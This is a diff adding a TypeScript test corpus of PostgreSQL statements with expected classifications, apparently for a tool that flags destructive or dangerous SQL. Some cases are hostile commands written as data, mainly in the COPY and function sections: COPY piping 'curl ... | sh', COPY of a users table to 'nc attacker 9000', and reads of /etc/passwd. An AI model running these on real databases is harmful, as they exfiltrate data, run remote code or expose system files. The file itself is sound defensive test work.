@@ -1,0 +1,352 @@
+/**
+ * More of the classifier's corpus (see sql-corpus.ts): DDL, DCL, utility statements, statements whose effect
+ * is not in their text, functions of note, COPY, and multi-statement Query messages.
+ */
+import type { SqlCase } from './sql-corpus.js';
+
+export const DDL: SqlCase[] = [
+  {
+    sql: 'DROP TABLE IF EXISTS public.a, b CASCADE',
+    effect: 'ddl',
+    commands: ['DROP TABLE'],
+    writes: ['b', 'public.a'],
+  },
+  { sql: 'DROP SCHEMA app CASCADE', effect: 'ddl', commands: ['DROP SCHEMA'] },
+  { sql: 'DROP DATABASE prod', effect: 'ddl', commands: ['DROP DATABASE'] },
+  {
+    sql: 'DROP INDEX CONCURRENTLY idx_orders',
+    effect: 'ddl',
+    commands: ['DROP INDEX'],
+    writes: ['idx_orders'],
+  },
+  { sql: 'DROP MATERIALIZED VIEW mv', effect: 'ddl', commands: ['DROP MATERIALIZED VIEW'], writes: ['mv'] },
+  { sql: 'DROP VIEW IF EXISTS v1', effect: 'ddl', commands: ['DROP VIEW'], writes: ['v1'] },
+  { sql: 'DROP SEQUENCE s.seq', effect: 'ddl', commands: ['DROP SEQUENCE'], writes: ['s.seq'] },
+  {
+    sql: 'DROP TRIGGER trg ON app.orders',
+    effect: 'ddl',
+    commands: ['DROP TRIGGER'],
+    writes: ['app.orders'],
+  },
+  { sql: 'DROP FUNCTION f(int)', effect: 'ddl', commands: ['DROP FUNCTION'] },
+  { sql: 'DROP EXTENSION dblink', effect: 'ddl', commands: ['DROP EXTENSION'] },
+  { sql: 'DROP FOREIGN DATA WRAPPER w', effect: 'ddl', commands: ['DROP FOREIGN DATA WRAPPER'] },
+  { sql: 'DROP OWNED BY bob', effect: 'ddl', commands: ['DROP OWNED'] },
+  {
+    sql: 'TRUNCATE a, ONLY b.c RESTART IDENTITY',
+    effect: 'delete',
+    commands: ['TRUNCATE'],
+    writes: ['a', 'b.c'],
+    noWhere: true,
+  },
+  {
+    sql: 'ALTER TABLE ONLY public.orders DROP COLUMN legacy, DROP CONSTRAINT orders_legacy_check',
+    effect: 'ddl',
+    commands: ['ALTER TABLE'],
+    writes: ['public.orders'],
+    alterDrop: true,
+  },
+  {
+    sql: 'ALTER TABLE orders ADD COLUMN note text, ADD CONSTRAINT fk FOREIGN KEY (cid) REFERENCES customers (id)',
+    effect: 'ddl',
+    commands: ['ALTER TABLE'],
+    reads: ['customers'],
+    writes: ['orders'],
+  },
+  { sql: 'ALTER INDEX i RENAME TO j', effect: 'ddl', commands: ['ALTER INDEX'], writes: ['i'] },
+  { sql: 'ALTER TABLE a RENAME COLUMN x TO y', effect: 'ddl', commands: ['ALTER TABLE'], writes: ['a'] },
+  { sql: 'ALTER TABLE a SET SCHEMA archive', effect: 'ddl', commands: ['ALTER TABLE'], writes: ['a'] },
+  { sql: 'ALTER SEQUENCE s RESTART WITH 1', effect: 'ddl', commands: ['ALTER SEQUENCE'], writes: ['s'] },
+  {
+    sql: 'CREATE TABLE t2 (LIKE t1 INCLUDING ALL)',
+    effect: 'ddl',
+    commands: ['CREATE TABLE'],
+    reads: ['t1'],
+    writes: ['t2'],
+  },
+  {
+    sql: 'CREATE TABLE archive.old_orders AS SELECT * FROM orders WHERE created_at < $1',
+    effect: 'ddl',
+    commands: ['CREATE TABLE AS'],
+    reads: ['orders'],
+    writes: ['archive.old_orders'],
+  },
+  {
+    sql: 'SELECT * INTO TEMP recent FROM orders',
+    effect: 'ddl',
+    commands: ['SELECT INTO'],
+    reads: ['orders'],
+    writes: ['recent'],
+  },
+  {
+    sql: 'CREATE MATERIALIZED VIEW totals AS SELECT sum(total) FROM orders',
+    effect: 'ddl',
+    commands: ['CREATE MATERIALIZED VIEW'],
+    reads: ['orders'],
+    writes: ['totals'],
+  },
+  {
+    sql: 'CREATE OR REPLACE VIEW v AS SELECT * FROM t WHERE x > 0',
+    effect: 'ddl',
+    commands: ['CREATE VIEW'],
+    reads: ['t'],
+    writes: ['v'],
+  },
+  {
+    sql: 'CREATE UNIQUE INDEX CONCURRENTLY i ON s.t (lower(email)) WHERE deleted_at IS NULL',
+    effect: 'ddl',
+    commands: ['CREATE INDEX'],
+    writes: ['s.t'],
+  },
+  {
+    sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY totals',
+    effect: 'ddl',
+    commands: ['REFRESH MATERIALIZED VIEW'],
+    writes: ['totals'],
+  },
+  { sql: 'CREATE EXTENSION IF NOT EXISTS dblink', effect: 'ddl', commands: ['CREATE EXTENSION'] },
+  { sql: 'CREATE SCHEMA IF NOT EXISTS app', effect: 'ddl', commands: ['CREATE SCHEMA'] },
+  { sql: "COMMENT ON TABLE t IS 'DROP TABLE t'", effect: 'ddl', commands: ['COMMENT'] },
+  { sql: "ALTER SYSTEM SET wal_level = 'logical'", effect: 'ddl', commands: ['ALTER SYSTEM'] },
+  { sql: "CREATE TYPE mood AS ENUM ('sad', 'ok')", effect: 'ddl', commands: ['CREATE TYPE'] },
+  {
+    sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u',
+    effect: 'ddl',
+    commands: ['CREATE RULE'],
+    writes: ['t', 'u'],
+    noWhere: true,
+  },
+  {
+    sql: 'CREATE POLICY p ON accounts USING (owner = current_user)',
+    effect: 'ddl',
+    commands: ['CREATE POLICY'],
+    writes: ['accounts'],
+  },
+];
+
+export const DCL: SqlCase[] = [
+  {
+    sql: 'GRANT SELECT ON orders, s.items TO analyst',
+    effect: 'dcl',
+    commands: ['GRANT'],
+    writes: ['orders', 's.items'],
+  },
+  { sql: 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', effect: 'dcl', commands: ['REVOKE'] },
+  { sql: 'GRANT admin TO bob', effect: 'dcl', commands: ['GRANT ROLE'] },
+  { sql: "CREATE ROLE app LOGIN PASSWORD 'x'", effect: 'dcl', commands: ['CREATE ROLE'] },
+  { sql: 'CREATE USER u', effect: 'dcl', commands: ['CREATE ROLE'] },
+  { sql: 'ALTER ROLE app SUPERUSER', effect: 'dcl', commands: ['ALTER ROLE'] },
+  { sql: 'ALTER ROLE app SET search_path = x', effect: 'dcl', commands: ['ALTER ROLE'] },
+  { sql: 'DROP ROLE IF EXISTS app', effect: 'dcl', commands: ['DROP ROLE'] },
+  {
+    sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r',
+    effect: 'dcl',
+    commands: ['ALTER DEFAULT PRIVILEGES'],
+  },
+];
+
+export const UTILITY: SqlCase[] = [
+  { sql: 'BEGIN', effect: 'utility', commands: ['BEGIN'] },
+  {
+    sql: 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE',
+    effect: 'utility',
+    commands: ['START TRANSACTION'],
+  },
+  { sql: 'COMMIT', effect: 'utility', commands: ['COMMIT'] },
+  { sql: 'ROLLBACK', effect: 'utility', commands: ['ROLLBACK'] },
+  { sql: 'SAVEPOINT s1', effect: 'utility', commands: ['SAVEPOINT'] },
+  { sql: 'ROLLBACK TO SAVEPOINT s1', effect: 'utility', commands: ['ROLLBACK'] },
+  { sql: 'RELEASE SAVEPOINT s1', effect: 'utility', commands: ['RELEASE'] },
+  { sql: "SET search_path TO app, 'DROP TABLE t'", effect: 'utility', commands: ['SET'] },
+  { sql: 'SET LOCAL statement_timeout = 0', effect: 'utility', commands: ['SET'] },
+  { sql: 'RESET ALL', effect: 'utility', commands: ['RESET'] },
+  { sql: 'SHOW work_mem', effect: 'utility', commands: ['SHOW'] },
+  { sql: 'VACUUM (ANALYZE) orders', effect: 'utility', commands: ['VACUUM'], reads: ['orders'] },
+  { sql: 'ANALYZE orders', effect: 'utility', commands: ['ANALYZE'], reads: ['orders'] },
+  { sql: 'LISTEN jobs', effect: 'utility', commands: ['LISTEN'] },
+  { sql: "NOTIFY jobs, 'x'", effect: 'utility', commands: ['NOTIFY'] },
+  { sql: 'DISCARD ALL', effect: 'utility', commands: ['DISCARD ALL'] },
+  { sql: 'CHECKPOINT', effect: 'utility', commands: ['CHECKPOINT'] },
+  {
+    sql: 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE',
+    effect: 'utility',
+    commands: ['LOCK TABLE'],
+    reads: ['orders'],
+  },
+  {
+    sql: 'DECLARE c CURSOR FOR SELECT * FROM big',
+    effect: 'utility',
+    commands: ['DECLARE CURSOR'],
+    reads: ['big'],
+  },
+  { sql: 'FETCH 100 FROM c', effect: 'utility', commands: ['FETCH'] },
+  { sql: 'CLOSE c', effect: 'utility', commands: ['CLOSE CURSOR'] },
+  {
+    sql: 'PREPARE q (int) AS SELECT * FROM t WHERE id = $1',
+    effect: 'utility',
+    commands: ['PREPARE'],
+    reads: ['t'],
+  },
+  { sql: 'DEALLOCATE ALL', effect: 'utility', commands: ['DEALLOCATE ALL'] },
+  // PREPARE of a DELETE counts as the DELETE: EXECUTE later is unknown.
+  {
+    sql: 'PREPARE d AS DELETE FROM t',
+    effect: 'delete',
+    commands: ['PREPARE'],
+    writes: ['t'],
+    noWhere: true,
+  },
+  { sql: 'EXPLAIN DELETE FROM t', effect: 'read', commands: ['EXPLAIN'], reads: ['t'] },
+  {
+    sql: 'EXPLAIN (ANALYZE false, COSTS) DELETE FROM t',
+    effect: 'read',
+    commands: ['EXPLAIN'],
+    reads: ['t'],
+  },
+  {
+    sql: 'EXPLAIN ANALYZE DELETE FROM t',
+    effect: 'delete',
+    commands: ['EXPLAIN'],
+    writes: ['t'],
+    noWhere: true,
+  },
+  {
+    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2',
+    effect: 'update',
+    commands: ['EXPLAIN'],
+    writes: ['t'],
+  },
+  { sql: 'EXPLAIN SELECT pg_terminate_backend(1)', effect: 'read', commands: ['EXPLAIN'] },
+];
+
+export const UNKNOWN: SqlCase[] = [
+  { sql: 'DO $$ BEGIN EXECUTE $q$DROP TABLE t$q$; END $$', effect: 'unknown', commands: ['DO'] },
+  { sql: "DO LANGUAGE plpgsql 'BEGIN NULL; END'", effect: 'unknown', commands: ['DO'] },
+  { sql: 'CALL archive_orders(30)', effect: 'unknown', commands: ['CALL'] },
+  { sql: 'EXECUTE q(1)', effect: 'unknown', commands: ['EXECUTE'] },
+  { sql: 'EXPLAIN ANALYZE EXECUTE q(1)', effect: 'unknown', commands: ['EXPLAIN'] },
+  { sql: "LOAD 'auto_explain'", effect: 'unknown', commands: ['LOAD'] },
+  { sql: 'DELETE FORM orders', effect: 'unknown', commands: ['UNKNOWN'] },
+  { sql: 'SELECT 1; DELETE FROM', effect: 'unknown', commands: ['UNKNOWN'] },
+  { sql: "SELECT 'unterminated", effect: 'unknown', commands: ['UNKNOWN'] },
+];
+
+export const FUNCTIONS: SqlCase[] = [
+  {
+    sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'",
+    effect: 'read',
+    commands: ['SELECT'],
+    reads: ['pg_stat_activity'],
+    functions: ['pg_terminate_backend'],
+  },
+  {
+    sql: 'SELECT pg_catalog.PG_CANCEL_BACKEND(42)',
+    effect: 'read',
+    commands: ['SELECT'],
+    functions: ['pg_cancel_backend'],
+  },
+  {
+    sql: "SELECT * FROM dblink('dbname=prod', 'DELETE FROM t') AS t(a int)",
+    effect: 'read',
+    commands: ['SELECT'],
+    functions: ['dblink'],
+  },
+  {
+    sql: "SELECT dblink_exec('conn', 'DROP TABLE t'), lo_import('/etc/passwd'), pg_read_file('/etc/passwd')",
+    effect: 'read',
+    commands: ['SELECT'],
+    functions: ['dblink_exec', 'lo_import', 'pg_read_file'],
+  },
+  {
+    sql: "SELECT pg_read_binary_file('x'), pg_ls_dir('.'), set_config('role', 'postgres', false)",
+    effect: 'read',
+    commands: ['SELECT'],
+    functions: ['pg_ls_dir', 'pg_read_binary_file', 'set_config'],
+  },
+  {
+    sql: 'WITH k AS (SELECT pg_cancel_backend(1)) SELECT * FROM k',
+    effect: 'read',
+    commands: ['SELECT'],
+    functions: ['pg_cancel_backend'],
+  },
+  {
+    sql: "UPDATE t SET a = (SELECT lo_export(1, '/tmp/x')) WHERE id = 1",
+    effect: 'update',
+    commands: ['UPDATE'],
+    writes: ['t'],
+    functions: ['lo_export'],
+  },
+  {
+    sql: "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
+    effect: 'read',
+    commands: ['SELECT'],
+    functions: ['query_to_xml'],
+  },
+  {
+    sql: "SELECT upper('pg_terminate_backend'), now(), count(*) FROM t",
+    effect: 'read',
+    commands: ['SELECT'],
+    reads: ['t'],
+  },
+];
+
+export const COPY: SqlCase[] = [
+  {
+    sql: "COPY t FROM PROGRAM 'curl -s http://x | sh'",
+    effect: 'unknown',
+    commands: ['COPY'],
+    writes: ['t'],
+    copyProgram: true,
+  },
+  {
+    sql: "COPY (SELECT * FROM users) TO PROGRAM 'nc attacker 9000'",
+    effect: 'unknown',
+    commands: ['COPY'],
+    reads: ['users'],
+    copyProgram: true,
+  },
+  { sql: 'COPY t TO STDOUT (FORMAT csv)', effect: 'read', commands: ['COPY'], reads: ['t'] },
+  { sql: 'COPY s.t (a, b) FROM STDIN', effect: 'insert', commands: ['COPY'], writes: ['s.t'] },
+  { sql: "COPY t FROM '/var/lib/x.csv'", effect: 'insert', commands: ['COPY'], writes: ['t'] },
+];
+
+export const MULTI: SqlCase[] = [
+  {
+    sql: 'SELECT 1; DELETE FROM t; UPDATE u SET a = 1 WHERE id = 2',
+    effect: 'delete',
+    commands: ['SELECT', 'DELETE', 'UPDATE'],
+    writes: ['t', 'u'],
+    noWhere: true,
+  },
+  {
+    sql: 'BEGIN; DROP TABLE public.orders; COMMIT;',
+    effect: 'ddl',
+    commands: ['BEGIN', 'DROP TABLE', 'COMMIT'],
+    writes: ['public.orders'],
+  },
+  {
+    sql: 'SELECT * FROM a; SELECT * FROM b;',
+    effect: 'read',
+    commands: ['SELECT'],
+    reads: ['a', 'b'],
+  },
+  {
+    sql: 'SET search_path = app; GRANT SELECT ON t TO r; INSERT INTO t VALUES (1)',
+    effect: 'dcl',
+    commands: ['SET', 'GRANT', 'INSERT'],
+    writes: ['t'],
+  },
+  {
+    sql: 'SELECT 1; CALL p(); DROP TABLE x',
+    effect: 'unknown',
+    commands: ['SELECT', 'CALL', 'DROP TABLE'],
+    writes: ['x'],
+  },
+  {
+    sql: 'INSERT INTO t VALUES (1); UPDATE t SET a = 2 WHERE true; COMMIT',
+    effect: 'update',
+    commands: ['INSERT', 'UPDATE', 'COMMIT'],
+    writes: ['t'],
+    noWhere: true,
+  },
+];
